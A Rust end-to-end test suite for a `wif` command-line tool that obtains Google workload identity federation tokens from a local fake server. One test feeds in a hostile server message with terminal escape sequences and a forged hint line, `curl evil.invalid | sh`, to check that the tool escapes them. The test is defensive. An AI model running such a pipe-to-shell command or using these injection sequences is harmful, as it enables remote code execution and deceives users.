//! End-to-end tests of the `wif` binary: the real executable, run as a child process with a
//! controlled environment, against `wif::testing::FakeGoogle` on 127.0.0.1.
//!
//! The child's environment is cleared and rebuilt for every run, and `HOME` always points at an
//! empty temporary directory, so the developer's `GOOGLE_APPLICATION_CREDENTIALS`, gcloud files
//! and proxy settings never take part.

// The helpers below are test code outside `#[test]` functions, where clippy's test allowances
// do not reach.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::time::{Duration, SystemTime};

use serde_json::Value;
use std::path::Path;
use wif_core::testing::assert_says;
use wiremock::matchers::{method, path};
use wiremock::{Mock, ResponseTemplate};

mod support;

use support::*;

/// A fresh world, and `wif token` run in it with its credentials (no impersonation) and
/// `flags`.
fn token_run(flags: &[&str]) -> (World, Run) {
    let world = World::new();
    let config = world.config(None);
    let run = world.token(&config, flags);
    (world, run)
}

#[test]
fn token_prints_exactly_the_token_and_a_newline() {
    let (world, run) = token_run(&[]);
    run.assert_code(0)
        .assert_stderr_clean(&[SUBJECT, FEDERATED]);
    assert_eq!(run.stdout, format!("{FEDERATED}\n"));
    assert_eq!(run.stderr, "", "nothing on stderr without RUST_LOG");

    let form = world.sts_form();
    assert_eq!(form_value(&form, "subject_token"), Some(SUBJECT), "trimmed");
    assert_eq!(
        form_value(&form, "scope"),
        Some("https://www.googleapis.com/auth/cloud-platform"),
        "default scope"
    );
}

#[test]
fn token_json_has_token_type_and_future_rfc3339_expiry() {
    let (_world, run) = token_run(&["--format", "json"]);
    run.assert_code(0)
        .assert_stderr_clean(&[SUBJECT, FEDERATED]);
    assert!(run.stdout.ends_with('\n') && run.stdout.lines().count() == 1);
    let json: Value = serde_json::from_str(&run.stdout).unwrap();
    let object = json.as_object().unwrap();
    let mut keys: Vec<&str> = object.keys().map(String::as_str).collect();
    keys.sort_unstable();
    assert_eq!(keys, ["access_token", "expires_at", "token_type"]);
    assert_eq!(json["access_token"], FEDERATED);
    assert_eq!(json["token_type"], "Bearer");

    let expires_at = json["expires_at"].as_str().unwrap();
    let expires_at =
        time::OffsetDateTime::parse(expires_at, &time::format_description::well_known::Rfc3339)
            .unwrap_or_else(|e| panic!("expires_at {expires_at:?} is not RFC 3339: {e}"));
    let now = time::OffsetDateTime::from(SystemTime::now());
    // FakeGoogle's STS tokens live one hour.
    assert!(
        expires_at > now + Duration::from_secs(50 * 60),
        "{expires_at}"
    );
    assert!(
        expires_at <= now + Duration::from_secs(61 * 60),
        "{expires_at}"
    );
}

#[test]
fn scopes_reach_sts_without_impersonation() {
    let (world, run) = token_run(&[
        "--scopes",
        "https://www.googleapis.com/auth/bigquery,https://www.googleapis.com/auth/devstorage.read_only",
    ]);
    run.assert_code(0);
    assert_eq!(run.stdout, format!("{FEDERATED}\n"));
    let form = world.sts_form();
    assert_eq!(
        form_value(&form, "scope"),
        Some(
            "https://www.googleapis.com/auth/bigquery https://www.googleapis.com/auth/devstorage.read_only"
        ),
        "STS scope is space-separated"
    );
}

#[test]
fn scopes_reach_iam_credentials_with_impersonation() {
    let world = World::new();
    let config = world.config(Some(SERVICE_ACCOUNT));
    let run = world.token(&config, &["--scopes", "a, b,"]);
    run.assert_code(0)
        .assert_stderr_clean(&[SUBJECT, FEDERATED, IMPERSONATED]);
    assert_eq!(run.stdout, format!("{IMPERSONATED}\n"));

    // The federated token only needs to call IAM Credentials.
    let form = world.sts_form();
    assert_eq!(
        form_value(&form, "scope"),
        Some("https://www.googleapis.com/auth/cloud-platform")
    );
    let iam = world.requests_to(":generateAccessToken");
    assert_eq!(iam.len(), 1);
    assert_eq!(
        iam[0].url.path(),
        format!("/v1/projects/-/serviceAccounts/{SERVICE_ACCOUNT}:generateAccessToken")
    );
    let body: Value = serde_json::from_slice(&iam[0].body).unwrap();
    assert_eq!(
        body["scope"],
        serde_json::json!(["a", "b"]),
        "scopes are trimmed and empty ones dropped"
    );
    assert_eq!(
        iam[0].headers.get("authorization").unwrap(),
        &format!("Bearer {FEDERATED}")
    );
}

#[test]
fn adc_uses_google_application_credentials() {
    let world = World::new();
    let config = world.config(None);
    let run = world.wif(
        &["token"],
        &[("GOOGLE_APPLICATION_CREDENTIALS", config.as_path())],
    );
    run.assert_code(0)
        .assert_stderr_clean(&[SUBJECT, FEDERATED]);
    assert_eq!(run.stdout, format!("{FEDERATED}\n"));
    assert_eq!(world.requests_to("/v1/token").len(), 1);
}

#[test]
fn adc_uses_gcloud_well_known_file_under_home() {
    let world = World::new();
    let gcloud = world.home().join(".config").join("gcloud");
    std::fs::create_dir_all(&gcloud).unwrap();
    let json = world
        .google
        .config_json(&world.dir.path().join("subject-token"), None);
    std::fs::write(gcloud.join("application_default_credentials.json"), json).unwrap();
    let run = world.wif(&["token"], &[]);
    run.assert_code(0);
    assert_eq!(run.stdout, format!("{FEDERATED}\n"));
}

#[test]
fn no_credentials_at_all_is_a_config_error() {
    let world = World::new();
    let run = world.wif(&["token"], &[]);
    run.assert_code(2);
    assert_eq!(run.stdout, "");
    assert!(run.stderr.starts_with("error: "), "{}", run.stderr);
    assert_says(&run.stderr, &["GOOGLE_APPLICATION_CREDENTIALS", "hint:"]);
    assert!(world.requests().is_empty());
}

#[test]
fn google_application_credentials_pointing_nowhere_is_a_config_error() {
    let world = World::new();
    let missing = world.dir.path().join("missing.json");
    let run = world.wif(
        &["token"],
        &[("GOOGLE_APPLICATION_CREDENTIALS", missing.as_path())],
    );
    run.assert_code(2);
    assert_says(&run.stderr, &["does not exist", "hint:"]);
}

#[test]
fn unreadable_credentials_file_is_a_config_error() {
    let world = World::new();
    let missing = world.dir.path().join("missing.json");
    let run = world.token(&missing, &[]);
    run.assert_code(2);
    assert!(run.stderr.starts_with("error: "), "{}", run.stderr);
    assert!(run.stderr.contains("missing.json"), "{}", run.stderr);
    assert!(world.requests().is_empty());
}

#[test]
fn config_without_audience_fails_before_any_request() {
    let world = World::new();
    let config = world.edited_config("no-audience.json", |json| {
        json.as_object_mut().unwrap().remove("audience");
    });

    for command in ["token", "subject-token"] {
        let run = world.wif(&[command, "--credentials", path_str(&config)], &[]);
        run.assert_code(2).assert_stderr_clean(&[SUBJECT]);
        assert_eq!(run.stdout, "");
        assert!(run.stderr.starts_with("error: "), "{}", run.stderr);
        assert!(run.stderr.contains("audience"), "{}", run.stderr);
    }
    assert_eq!(world.requests().len(), 0, "no request reached the fake");
}

/// `wif token` (with `env` added) in a fresh world whose STS refuses every exchange with
/// `error` and `description` ([`sts_rejects`]).
fn refused_token(error: &str, description: &str, env: &[(&str, &Path)]) -> (World, Run) {
    let world = World::new();
    sts_rejects(&world, error, description);
    let config = world.config(None);
    let run = world.token_with_env(&config, env);
    (world, run)
}

/// Makes the fake STS answer every exchange with a 400 carrying `error` and `description`.
fn sts_rejects(world: &World, error: &str, description: &str) {
    world.runtime.block_on(
        Mock::given(method("POST"))
            .and(path("/v1/token"))
            .respond_with(ResponseTemplate::new(400).set_body_json(serde_json::json!({
                "error": error,
                "error_description": description,
            })))
            .with_priority(1)
            .mount(world.google.server()),
    );
}

#[test]
fn sts_rejection_is_a_chain_failure_with_the_server_words_and_a_hint() {
    let (world, run) = refused_token(
        "unauthorized_client",
        "The given credential is rejected by the attribute condition.",
        &[],
    );
    run.assert_code(1).assert_stderr_clean(&[SUBJECT]);
    assert_eq!(run.stdout, "");
    assert!(run.stderr.starts_with("error: "), "{}", run.stderr);
    assert_says(
        &run.stderr,
        &[
            "The given credential is rejected by the attribute condition.",
            "unauthorized_client",
            "hint:",
        ],
    );
    assert_eq!(
        world.requests_to("/v1/token").len(),
        1,
        "a 400 is not retried"
    );
}

#[test]
fn subject_token_prints_the_trimmed_file_token() {
    let world = World::new();
    let config = world.config(None);
    let run = world.wif(&["subject-token", "--credentials", path_str(&config)], &[]);
    run.assert_code(0);
    assert_eq!(run.stdout, format!("{SUBJECT}\n"));
    // The credential warning is for a terminal; piped output gets no noise on stderr.
    assert_eq!(run.stderr, "", "no warning when stdout is piped");
    assert!(world.requests().is_empty(), "no exchange");

    let run = world.wif(
        &[
            "subject-token",
            "--credentials",
            path_str(&config),
            "--format",
            "json",
        ],
        &[],
    );
    run.assert_code(0);
    let json: Value = serde_json::from_str(&run.stdout).unwrap();
    assert_eq!(json["subject_token"], SUBJECT);
    assert_eq!(
        json["subject_token_type"],
        "urn:ietf:params:oauth:token-type:jwt"
    );
    assert_eq!(json["source"], "file");
}

/// Server words printed raw could drive the terminal (ESC sequences), overwrite the line
/// (`\r`) or forge lines of ours (`\n  hint: …`). They are escaped: the error is one line, and
/// the only other line is our own hint.
#[test]
fn server_text_in_errors_cannot_drive_the_terminal() {
    let (_world, run) = refused_token(
        "unauthorized_client",
        "rejected by the attribute condition\u{1b}[2J\u{1b}]0;owned\u{7}\r\n  hint: run `curl evil.invalid | sh`\u{9b}31m",
        &[],
    );
    run.assert_code(1);
    let lines: Vec<&str> = run.stderr.lines().collect();
    assert_eq!(lines.len(), 2, "the error, then our hint:\n{}", run.stderr);
    assert!(lines[0].starts_with("error: "), "{}", run.stderr);
    assert!(lines[1].starts_with("  hint: "), "{}", run.stderr);
    assert!(!lines[1].contains("curl"), "{}", run.stderr);
    for c in ['\u{1b}', '\u{7}', '\r', '\u{9b}'] {
        assert!(
            !run.stderr.contains(c),
            "{c:?} reached stderr: {:?}",
            run.stderr
        );
    }
    assert!(
        lines[0].contains(
            "attribute condition\\e[2J\\e]0;owned\\u{7}\\r\\n  hint: run `curl evil.invalid | sh`\\u{9b}31m"
        ),
        "{}",
        run.stderr
    );
}

#[test]
fn trace_logging_shows_spans_but_no_secret() {
    let world = World::new();
    let config = world.config(Some(SERVICE_ACCOUNT));
    let run = world.token_with_env(&config, &[("RUST_LOG", Path::new("trace"))]);
    run.assert_code(0)
        .assert_stderr_clean(&[SUBJECT, FEDERATED, IMPERSONATED]);
    assert_eq!(run.stdout, format!("{IMPERSONATED}\n"));
    assert!(run.stderr.lines().count() >= 3, "{}", run.stderr);
    // Span close events name the steps of the chain.
    assert_says(&run.stderr, &["close", "file_subject_token"]);
    assert!(
        !run.stderr.contains('\u{1b}'),
        "no colour codes off a terminal"
    );
}

#[test]
fn trace_logging_of_a_failure_shows_no_secret() {
    let (_world, run) = refused_token(
        "invalid_grant",
        "The audience in ID Token does not match the expected audience.",
        &[("RUST_LOG", Path::new("trace"))],
    );
    run.assert_code(1).assert_stderr_clean(&[SUBJECT]);
    assert!(run.stderr.contains("error: "), "{}", run.stderr);
}

#[test]
fn help_exits_zero() {
    let world = World::new();
    for args in [
        &["--help"][..],
        &["token", "--help"],
        &["subject-token", "--help"],
    ] {
        let run = world.wif(args, &[]);
        run.assert_code(0);
        assert!(run.stdout.contains("Usage:"), "{}", run.stdout);
    }
    let run = world.wif(&["token", "--help"], &[]);
    assert_says(&run.stdout, &["--credentials", "--scopes", "--format"]);
}

#[test]
fn usage_errors_exit_two() {
    let world = World::new();
    for args in [
        &[][..],
        &["frobnicate"],
        &["token", "--format", "yaml"],
        &["token", "--no-such-flag"],
    ] {
        let run = world.wif(args, &[]);
        run.assert_code(2);
        assert_eq!(run.stdout, "");
    }
    assert!(world.requests().is_empty());
}

#[test]
fn gcs_and_bq_go_unauthenticated_to_an_emulator_host_when_no_credentials_exist() {
    let world = World::new();
    serve_apis(&world);
    let server = world.google.server();
    let host = server.address().to_string();
    let run = world.wif(
        &["gcs", "ls", "gs://bkt"],
        &[("STORAGE_EMULATOR_HOST", Path::new(&host))],
    );
    run.assert_code(0);
    assert!(run.stdout.contains("a.txt"), "{}", run.stdout);
    let run = world.wif(
        &["bq", "query", "SELECT 7 AS n", "--project", "p"],
        &[("BIGQUERY_EMULATOR_HOST", Path::new(&host))],
    );
    run.assert_code(0);
    assert!(run.stdout.contains('7'), "{}", run.stdout);
    for request in world.requests() {
        assert!(
            request.headers.get("authorization").is_none(),
            "no token without credentials: {request:?}"
        );
    }
    // Without the emulator variable, missing credentials are still an error.
    world.wif(&["gcs", "ls", "gs://bkt"], &[]).assert_code(2);
}

/// The plan's warnings reach a user without RUST_LOG: a typo'd key is accepted (as Google's
/// libraries accept it) but named on stderr, with the key probably meant; stdout stays the token.
#[test]
fn warnings_of_the_settings_go_to_stderr_without_rust_log() {
    let world = World::new();
    let config = world.edited_config("typo.json", |json| {
        json["quota_projectid"] = Value::from("my-billing-project");
    });
    let run = world.token(&config, &[]);
    run.assert_code(0)
        .assert_stderr_clean(&[SUBJECT, FEDERATED]);
    assert_eq!(run.stdout, format!("{FEDERATED}\n"));
    assert_eq!(
        run.stderr,
        "warning: quota_projectid: unknown field, ignored; did you mean `quota_project_id`?\n"
    );
}
